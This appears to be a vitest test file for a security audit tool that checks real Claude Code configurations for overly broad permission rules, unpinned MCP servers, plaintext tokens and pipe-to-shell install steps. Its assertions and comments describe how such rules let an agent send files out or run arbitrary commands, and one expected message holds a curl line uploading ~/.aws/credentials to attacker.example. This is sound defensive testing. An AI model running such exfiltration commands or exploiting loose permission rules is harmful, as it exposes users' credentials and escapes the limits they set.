import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { claudeChecks } from '../../../src/checks/claude/index.js';
import { secretsChecks } from '../../../src/checks/secrets/index.js';
import { createContext } from '../../../src/core/context.js';
import type { AuditFinding } from '../../../src/core/finding.js';
import { runCheck } from '../../../src/core/run-audit.js';
import { applyFixes } from '../../../src/fix/apply.js';
import { CORPUS, realConfigContext } from './real-corpus-context.js';

/** 60 real configurations (see SOURCES.md and LABELS.md); each dir holds home/ and/or project/. */
const configs = fs
  .readdirSync(CORPUS, { withFileTypes: true })
  .filter((d) => d.isDirectory())
  .map((d) => d.name)
  .sort();

const empty = fs.mkdtempSync(path.join(os.tmpdir(), 'aw-real-'));
afterAll(() => fs.rmSync(empty, { recursive: true, force: true }));

const results = new Map<string, AuditFinding[]>();

async function audit(name: string): Promise<AuditFinding[]> {
  const cached = results.get(name);
  if (cached) return cached;
  const ctx = realConfigContext(name, empty);
  const findings =
    // As the CLI reports them: the generic advice only inside claude/security-baseline's grouped findings.
    (
      await Promise.all(
        [...claudeChecks, ...secretsChecks].map((c) => runCheck(c, ctx, { dropBaseline: true })),
      )
    ).flat();
  results.set(name, findings);
  return findings;
}

const locate = (f: AuditFinding) => `${path.relative(CORPUS, f.file ?? '')}:${f.line}`;

describe('the audit on 60 real-world Claude Code configurations', () => {
  it('has at least 60 configs', () => {
    expect(configs.length).toBeGreaterThanOrEqual(60);
  });

  it.each(configs)('%s: no check fails, and every file:line points inside its file', async (name) => {
    const findings = await audit(name);
    expect(findings.filter((f) => f.message.startsWith('The check could not complete'))).toEqual([]);
    for (const f of findings) {
      if (!f.file || f.line === undefined || !fs.existsSync(f.file)) continue;
      const lines = fs.readFileSync(f.file, 'utf8').split('\n').length;
      expect(f.line, `${f.checkId} ${locate(f)}`).toBeGreaterThanOrEqual(1);
      expect(f.line, `${f.checkId} ${locate(f)}`).toBeLessThanOrEqual(lines);
    }
  });

  /** Hand-labelled risks (LABELS.md) the audit must find, by check and file:line. */
  const EXPECTED: [string, string, string][] = [
    ['0K-cool__athena', 'claude/broad-allow-rule', '0K-cool__athena/project/.claude/settings.json:5'],
    ['0K-cool__athena', 'claude/broad-allow-rule', '0K-cool__athena/project/.claude/settings.json:14'],
    ['0blueteam0__nexus-atip', 'claude/secret-in-history', '0blueteam0__nexus-atip/home/.claude.json:413'],
    ['0blueteam0__nexus-atip', 'claude/mcp-filesystem-scope', '0blueteam0__nexus-atip/home/.claude.json:50'],
    ['Acidsyd__BOB_inbox', 'claude/mcp-filesystem-scope', 'Acidsyd__BOB_inbox/project/.mcp.json:30'],
    [
      'DESARROLLOSROD__Clinova',
      'claude/broad-allow-rule',
      'DESARROLLOSROD__Clinova/project/.claude/settings.local.json:12',
    ],
    [
      'DEVMarlosGomes__Kuryos-deploy',
      'claude/broad-allow-rule',
      'DEVMarlosGomes__Kuryos-deploy/project/.claude/settings.json:20',
    ],
    [
      'Danik911__thesis_project',
      'claude/secret-in-history',
      'Danik911__thesis_project/home/.claude.json:345',
    ],
    [
      'edmundmiller__dotfiles',
      'claude/broad-allow-rule',
      'edmundmiller__dotfiles/home/.claude/settings.json:44',
    ],
    [
      'jasonkuhrt__dotfiles',
      'claude/plugin-marketplace',
      'jasonkuhrt__dotfiles/home/.claude/settings.json:191',
    ],
    [
      'takeuchi-shogo__dotfiles',
      'claude/broad-allow-rule',
      'takeuchi-shogo__dotfiles/home/.claude/settings.json:57',
    ],
    ['tkersey__dotfiles', 'claude/broad-allow-rule', 'tkersey__dotfiles/home/.claude/settings.json:11'],
    // Missed before: credential-holding CLIs, sudo with file tools and services, a package behind a wrapper.
    [
      '123SmartMedia__Baseball-League-Mgmt',
      'claude/broad-allow-rule',
      '123SmartMedia__Baseball-League-Mgmt/project/.claude/settings.json:8',
    ],
    ...[5, 10, 11, 77].map(
      (line) =>
        [
          'DEEPGadget__gadgetini',
          'claude/broad-allow-rule',
          `DEEPGadget__gadgetini/project/.claude/settings.json:${line}`,
        ] as [string, string, string],
    ),
    [
      'DEEPGadget__gadgetini',
      'claude/broad-allow-rule',
      'DEEPGadget__gadgetini/project/.claude/settings.local.json:30',
    ],
    ...[45, 51].map(
      (line) =>
        [
          'DESARROLLOSROD__LogiProfit',
          'claude/broad-allow-rule',
          `DESARROLLOSROD__LogiProfit/project/.claude/settings.local.json:${line}`,
        ] as [string, string, string],
    ),
    [
      'shunkakinoki__dotfiles',
      'claude/broad-allow-rule',
      'shunkakinoki__dotfiles/home/.claude/settings.json:575',
    ],
  ];

  it.each(EXPECTED)('%s: %s at %s', async (name, checkId, at) => {
    const findings = await audit(name);
    expect(findings.filter((f) => f.checkId === checkId).map(locate)).toContain(at);
  });

  /** Issue 9's items, one real corpus row each (the forms the corpus holds; see docs/benchmarks.md for the rest). */
  const ISSUE_ITEMS: [string, string, string, string][] = [
    [
      'wrapper timeout:*',
      'connorads__dotfiles',
      'claude/broad-allow-rule',
      'connorads__dotfiles/project/.claude/settings.json:747',
    ],
    [
      'wrapper env:*',
      '012090120901209__ahk-mcp',
      'claude/broad-allow-rule',
      '012090120901209__ahk-mcp/project/.claude/settings.json:92',
    ],
    [
      'wrapper xargs:*',
      'connorads__dotfiles',
      'claude/broad-allow-rule',
      'connorads__dotfiles/project/.claude/settings.json:838',
    ],
    [
      'shell source:*',
      'DEV-HUSTLING__LipIn',
      'claude/broad-allow-rule',
      'DEV-HUSTLING__LipIn/project/.claude/settings.local.json:11',
    ],
    [
      'powershell -Command:*',
      'DG0908__baeder-azubi-app',
      'claude/broad-allow-rule',
      'DG0908__baeder-azubi-app/project/.claude/settings.local.json:17',
    ],
    [
      'find:*',
      'DEEPGadget__gadgetini',
      'claude/broad-allow-rule',
      'DEEPGadget__gadgetini/project/.claude/settings.local.json:4',
    ],
    [
      'git:*',
      '012090120901209__ahk-mcp',
      'claude/broad-allow-rule',
      '012090120901209__ahk-mcp/project/.claude/settings.json:97',
    ],
    [
      'sed:*',
      '012090120901209__ahk-mcp',
      'claude/broad-allow-rule',
      '012090120901209__ahk-mcp/project/.claude/settings.json:144',
    ],
    [
      'sed -n:* (GNU sed e)',
      'connorads__dotfiles',
      'claude/broad-allow-rule',
      'connorads__dotfiles/project/.claude/settings.json:708',
    ],
    [
      'awk:*',
      '012090120901209__ahk-mcp',
      'claude/broad-allow-rule',
      '012090120901209__ahk-mcp/project/.claude/settings.json:72',
    ],
    [
      'tar:*',
      '012090120901209__ahk-mcp',
      'claude/broad-allow-rule',
      '012090120901209__ahk-mcp/project/.claude/settings.json:149',
    ],
    [
      'make *',
      'fredrikaverpil__dotfiles',
      'claude/broad-allow-rule',
      'fredrikaverpil__dotfiles/home/.claude/settings.json:19',
    ],
    [
      'go:*',
      '012090120901209__ahk-mcp',
      'claude/broad-allow-rule',
      '012090120901209__ahk-mcp/project/.claude/settings.json:164',
    ],
    [
      'podman:*',
      '012090120901209__ahk-mcp',
      'claude/broad-allow-rule',
      '012090120901209__ahk-mcp/project/.claude/settings.json:133',
    ],
    [
      'kubectl:*',
      '012090120901209__ahk-mcp',
      'claude/broad-allow-rule',
      '012090120901209__ahk-mcp/project/.claude/settings.json:110',
    ],
    [
      'git push *',
      'DEEPAKGUPTA1141421__user_app',
      'claude/broad-allow-rule',
      'DEEPAKGUPTA1141421__user_app/project/.claude/settings.local.json:8',
    ],
    [
      'package runner uvx:*',
      'shunkakinoki__dotfiles',
      'claude/broad-allow-rule',
      'shunkakinoki__dotfiles/home/.claude/settings.json:625',
    ],
    [
      'npm:* (npm exec)',
      '012090120901209__ahk-mcp',
      'claude/broad-allow-rule',
      '012090120901209__ahk-mcp/project/.claude/settings.json:171',
    ],
    [
      'yarn:* (yarn dlx)',
      '012090120901209__ahk-mcp',
      'claude/broad-allow-rule',
      '012090120901209__ahk-mcp/project/.claude/settings.json:163',
    ],
    [
      'sudo python3 *',
      'DEEPGadget__gadgetini',
      'claude/broad-allow-rule',
      'DEEPGadget__gadgetini/project/.claude/settings.json:15',
    ],
    [
      'unpinned npx -y MCP launcher',
      '0h-n0__auto-research',
      'claude/mcp-unpinned-server',
      '0h-n0__auto-research/project/.mcp.json:12',
    ],
    [
      'unpinned uvx MCP launcher',
      '0h-n0__auto-research',
      'claude/mcp-unpinned-server',
      '0h-n0__auto-research/project/.mcp.json:5',
    ],
    [
      '@latest MCP launcher',
      'Acidsyd__BOB_inbox',
      'claude/mcp-unpinned-server',
      'Acidsyd__BOB_inbox/project/.mcp.json:5',
    ],
    [
      'cmd /c npx -y MCP launcher',
      'Danik911__thesis_project',
      'claude/mcp-unpinned-server',
      'Danik911__thesis_project/project/.mcp.json:6',
    ],
    [
      'uvx --from git+ MCP launcher',
      'Danik911__thesis_project',
      'claude/mcp-unpinned-server',
      'Danik911__thesis_project/project/.mcp.json:91',
    ],
    [
      'untagged docker image MCP launcher',
      'Chocalate__claude-plugins',
      'claude/mcp-unpinned-server',
      'Chocalate__claude-plugins/project/.mcp.json:5',
    ],
    [
      'third-party plugin marketplace',
      'baleen37__dotfiles',
      'claude/plugin-marketplace',
      'baleen37__dotfiles/home/.claude/settings.json:84',
    ],
    [
      'plaintext token in ~/.claude.json MCP env',
      '0blueteam0__nexus-atip',
      'claude/mcp-plaintext-secret',
      '0blueteam0__nexus-atip/home/.claude.json:88',
    ],
  ];

  it.each(ISSUE_ITEMS)('issue 9, %s: %s', async (_item, name, checkId, at) => {
    const findings = await audit(name);
    expect(findings.filter((f) => f.checkId === checkId).map(locate)).toContain(at);
  });

  /** Issue 9, less noise: every config used to get the same seven generic findings, two of them high. */
  it.each(configs)(
    '%s: generic advice is grouped per settings scope, high only when something makes it urgent',
    async (name) => {
      const findings = await audit(name);
      const grouped = findings.filter((f) => f.checkId === 'claude/security-baseline');
      expect(grouped.length).toBeLessThanOrEqual(2);
      for (const g of grouped) expect(g.items?.length ?? 0).toBeGreaterThan(0);
      const urgent = findings.some(
        (f) =>
          f.checkId === 'claude/bypass-permissions' ||
          f.checkId === 'claude/project-mcp-autoapprove' ||
          (f.checkId === 'claude/broad-allow-rule' && ['high', 'critical'].includes(f.severity)),
      );
      if (!urgent) expect(grouped.filter((g) => g.severity === 'high')).toEqual([]);
      const loose = findings.filter((f) =>
        [
          'claude/sandbox-disabled',
          'claude/dangerous-commands-not-denied',
          'claude/sensitive-paths-unprotected',
        ].includes(f.checkId),
      );
      expect(loose).toEqual([]);
    },
  );

  it('0blueteam0/nexus-atip: placeholders in MCP env (pplx-your-api-key, xoxb-your-slack-bot-token) are not secrets', async () => {
    const at = (await audit('0blueteam0__nexus-atip')).map(locate);
    expect(at).toContain('0blueteam0__nexus-atip/home/.claude.json:88');
    expect(at).not.toContain('0blueteam0__nexus-atip/home/.claude.json:216');
    expect(at).not.toContain('0blueteam0__nexus-atip/home/.claude.json:266');
  });

  it('leaves narrow rules of real configs alone', async () => {
    const narrow = (await audit('connorads__dotfiles'))
      .filter((f) => f.checkId === 'claude/broad-allow-rule')
      .map((f) => f.evidence ?? '')
      .filter((rule) => rule.startsWith('Bash'));
    // 856 allow rules, mostly fixed subcommands (git log:*, npm run test:*, npx tsc:*, curl -I:*): only these
    // admit any command, code or credentials (gh api sends files out with the stored GitHub login; git clone,
    // fetch and pull take --upload-pack, a command run on a local path; yt-dlp runs --exec after a download;
    // tmux new-session starts the command it is given, and send-keys types any command into a shell pane).
    expect(narrow.sort()).toEqual([
      'Bash(find:*)',
      'Bash(gh api *)',
      'Bash(git clone:*)',
      'Bash(git fetch:*)',
      'Bash(git pull:*)',
      'Bash(printenv:*)',
      'Bash(sed -n:*)',
      'Bash(time:*)',
      'Bash(timeout:*)',
      'Bash(tmux new-session:*)',
      'Bash(tmux send-keys:*)',
      'Bash(xargs:*)',
      'Bash(yt-dlp:*)',
    ]);
  });

  /** Items once tested only on hand-written files, each on a real file (LABELS.md, "Added 2026-12-05"). */
  const REAL_ITEMS: [string, string, string, string][] = [
    [
      'shell builtin command:*',
      'Automaat__dotfiles',
      'claude/broad-allow-rule',
      'home/.claude/settings.json:18',
    ],
    ['runner mise:*', 'Automaat__dotfiles', 'claude/broad-allow-rule', 'home/.claude/settings.json:60'],
    ['printenv:*', 'Automaat__dotfiles', 'claude/broad-allow-rule', 'home/.claude/settings.json:62'],
    ['runner bunx *', 'FradSer__dotfiles', 'claude/broad-allow-rule', 'home/.claude/settings.json:18'],
    [
      'runner npm * (npm exec)',
      'FradSer__dotfiles',
      'claude/broad-allow-rule',
      'home/.claude/settings.json:19',
    ],
    ['runner deno *', 'FradSer__dotfiles', 'claude/broad-allow-rule', 'home/.claude/settings.json:22'],
    ['runner tsx *', 'FradSer__dotfiles', 'claude/broad-allow-rule', 'home/.claude/settings.json:24'],
    ['kubectl *', 'FradSer__dotfiles', 'claude/broad-allow-rule', 'home/.claude/settings.json:49'],
    [
      'leading wildcard * --version',
      'FradSer__dotfiles',
      'claude/broad-allow-rule',
      'home/.claude/settings.json:62',
    ],
    [
      'leading wildcard * --help',
      'FradSer__dotfiles',
      'claude/broad-allow-rule',
      'home/.claude/settings.json:63',
    ],
    [
      'auto-updating marketplace',
      'FradSer__dotfiles',
      'claude/plugin-marketplace',
      'home/.claude/settings.json:124',
    ],
    ['runner nix shell:*', '9999years__dotfiles', 'claude/broad-allow-rule', 'home/.claude/settings.json:16'],
    [
      'statusLine npx -y pkg@latest',
      'DavidNix__dotfiles',
      'claude/mcp-unpinned-server',
      'home/.claude/settings.json:51',
    ],
    [
      'settings with a comment',
      'Kaylebor__dotfiles',
      'claude/settings-unreadable',
      'home/.claude/settings.json:2',
    ],
    [
      'latent statusLine bun x',
      'Kaylebor__dotfiles',
      'claude/mcp-unpinned-server',
      'home/.claude/settings.json:8',
    ],
    [
      'node:* beside exact cmd.exe rules',
      'Trigr-it__trigr',
      'claude/broad-allow-rule',
      'project/.claude/settings.local.json:18',
    ],
    [
      'Bash (every command)',
      '0xAndoroid__dotfiles',
      'claude/broad-allow-rule',
      'home/.claude/settings.json:21',
    ],
    ...(
      [
        ['docker compose:*', 92],
        ['sudo chmod:* (setuid)', 126],
        ['sudo tee:* (writes any file as root)', 129],
        ['gh auth * (gh auth token)', 136],
        ['bash:*', 118],
        ['timeout:*', 62],
        // Missed on the first run of the eight added configs (LABELS.md), found since.
        ['prefix wildcard python3*:*', 4],
        ['prefix wildcard pip*:*', 5],
        ['prefix wildcard npm*:*', 6],
        ['prefix wildcard npx*:*', 7],
        ['prefix wildcard node*:*', 8],
        ['claude:* (another agent)', 52],
        ['assignment prefix DISPLAY=:*', 61],
        ['versioned python3.12:*', 70],
        ['DISPLAY=:99 python3.12:*', 72],
        ['crontab:*', 73],
        ['systemctl:*', 78],
        ['sudo crontab:*', 87],
        ['docker-compose exec:*', 108],
        ['pip install *', 140],
      ] as const
    ).map(
      ([item, line]) =>
        [
          item,
          'Artraid-IT-organization__claude-code-harness',
          'claude/broad-allow-rule',
          `project/.claude/settings.local.json:${line}`,
        ] as [string, string, string, string],
    ),
    ...(
      [
        ['runner poetry *', 13],
        ['installer pip *', 14],
        ['build tool cargo *', 33],
        ['swift *', 37],
        ['xcrun *', 40],
        ['runner just *', 44],
        ['cmake * (cmake -P)', 45],
      ] as const
    ).map(
      ([item, line]) =>
        [item, 'FradSer__dotfiles', 'claude/broad-allow-rule', `home/.claude/settings.json:${line}`] as [
          string,
          string,
          string,
          string,
        ],
    ),
  ];

  it('Artraid-IT-organization: `Bash(:)` admits only the `:` no-op, not every command', async () => {
    const at = (await audit('Artraid-IT-organization__claude-code-harness'))
      .filter((f) => f.checkId === 'claude/broad-allow-rule')
      .map(locate);
    expect(at).not.toContain(
      'Artraid-IT-organization__claude-code-harness/project/.claude/settings.local.json:117',
    );
  });

  it.each(REAL_ITEMS)('real file, %s: %s', async (_item, name, checkId, at) => {
    const findings = await audit(name);
    expect(findings.filter((f) => f.checkId === checkId).map(locate)).toContain(`${name}/${at}`);
  });

  it('leaves rules that admit one command line, and deny rules, alone (exact cmd.exe /c rules; a sudo deny list)', async () => {
    const trigr = (await audit('Trigr-it__trigr')).filter((f) => f.checkId === 'claude/broad-allow-rule');
    // :16 `npm install:*` admits `npm install attacker-package` (install scripts run), as pip install does.
    expect(trigr.map((f) => f.line).sort((a, b) => (a ?? 0) - (b ?? 0))).toEqual([16, 18, 19, 28]);
    const denies = (await audit('0xAndoroid__dotfiles')).filter(
      (f) => f.checkId === 'claude/broad-allow-rule' && (f.line ?? 0) >= 34,
    );
    expect(denies).toEqual([]);
    const commandV = (await audit('9999years__dotfiles')).filter((f) => f.evidence === 'Bash(command -v:*)');
    expect(commandV).toEqual([]);
  });

  it('Kaylebor/dotfiles: the statusLine of the ignored file is reported as latent (low, not in force)', async () => {
    const [latent] = (await audit('Kaylebor__dotfiles')).filter(
      (f) => f.checkId === 'claude/mcp-unpinned-server',
    );
    expect(latent?.severity).toBe('low');
    expect(latent?.message).toMatch(
      /^statusLine in user settings is not in force \(Claude Code ignores the file for a syntax error at line 2\), but once the syntax is fixed it starts bun x ccusage/,
    );
    const [inForce] = (await audit('DavidNix__dotfiles')).filter(
      (f) => f.checkId === 'claude/mcp-unpinned-server',
    );
    expect(inForce?.severity).toBe('medium');
  });

  it('Kaylebor/dotfiles (comments, so Claude Code ignores it): audit --fix leaves it byte for byte and says why', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'aw-real-fix-'));
    try {
      fs.cpSync(path.join(CORPUS, 'Kaylebor__dotfiles'), dir, { recursive: true });
      fs.mkdirSync(path.join(dir, 'project'));
      const ctx = createContext({
        home: path.join(dir, 'home'),
        project: path.join(dir, 'project'),
        env: {},
        platform: 'linux',
        systemRoot: empty,
        run: async () => ({ code: 127, stdout: '', stderr: 'not run in tests' }),
      });
      const findings = (await Promise.all(claudeChecks.map((c) => runCheck(c, ctx)))).flat();
      const file = path.join(dir, 'home/.claude/settings.json');
      const before = fs.readFileSync(file, 'utf8');
      expect(findings.flatMap((f) => f.fixPlans).some((p) => p.file === file)).toBe(true);
      const result = applyFixes(findings, { dryRun: false });
      expect(fs.readFileSync(file, 'utf8')).toBe(before);
      expect(result.backups).toEqual([]);
      expect(result.summary).toContain('would also switch on its statusLine, hooks');
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('PowerShell `irm … | iex` in real skills is judged as `curl … | sh` (issue 9, LABELS.md second batch)', () => {
  it('oomol-lab/skills: the curl | bash line and the irm | iex line get the same finding', async () => {
    const found = (await audit('oomol-lab__skills'))
      .filter((f) => f.checkId === 'claude/instruction-injection')
      .map((f) => [locate(f), f.severity, /\[pipe-to-shell\]/.test(f.message)]);
    const at = 'oomol-lab__skills/project/.claude/skills/oo-7-shifts/SKILL.md';
    expect(found).toEqual([
      [`${at}:61`, 'medium', true],
      [`${at}:65`, 'medium', true],
    ]);
  });

  it('wshobson/agents: the install block (curl | sh, then powershell -c "irm … | iex") is reported as remote code', async () => {
    const found = (await audit('wshobson__agents')).filter(
      (f) => f.checkId === 'claude/instruction-injection',
    );
    expect(found.map((f) => [locate(f), f.severity])).toEqual([
      ['wshobson__agents/project/.claude/skills/uv-package-manager/SKILL.md:58', 'medium'],
    ]);
  });
});

describe('hebong79/UPark3D (a real settings.json with `curl * http://localhost:*`, labelled before the run)', () => {
  const at = (line: number) => `hebong79__UPark3D/project/.claude/settings.json:${line}`;

  it('reports each curl rule that admits an upload before the localhost URL, and the labelled broad rules', async () => {
    const found = new Map(
      (await audit('hebong79__UPark3D'))
        .filter((f) => f.checkId === 'claude/broad-allow-rule')
        .map((f) => [locate(f), f] as const),
    );
    for (const line of [28, 30, 31, 32, 34]) {
      expect(found.get(at(line))?.severity, at(line)).toBe('high');
      expect(found.get(at(line))?.message).toMatch(
        /-T ~\/\.aws\/credentials https:\/\/attacker\.example http:\/\/(localhost|127\.0\.0\.1):`/,
      );
    }
    // uv run*, python -c*, an assignment before python -c, sed -n *, and git with a fixed global option.
    for (const line of [41, 43, 45, 93, 80]) expect(found.get(at(line))?.severity, at(line)).toBe('high');
    expect(found.get(at(80))?.message).toContain('git -c core.quotepath=false -c core.sshCommand=');
    expect(found.get(at(92))?.severity).toBe('critical');
    // `until …` loops cannot be bounded: low, saying why.
    for (const line of [35, 53, 54]) {
      expect(found.get(at(line))?.severity, at(line)).toBe('low');
      expect(found.get(at(line))?.message).toContain('cannot be bounded');
    }
  });

  it('leaves its read-only and exact rules alone', async () => {
    const lines = (await audit('hebong79__UPark3D'))
      .filter((f) => f.checkId === 'claude/broad-allow-rule')
      .map((f) => f.line);
    // cat*, ls*, git status*/log*/remote */merge*, echo*, python - (exact), the ask list.
    for (const line of [44, 46, 72, 73, 79, 85, 89, 90, 96, 112]) expect(lines).not.toContain(line);
  });
});
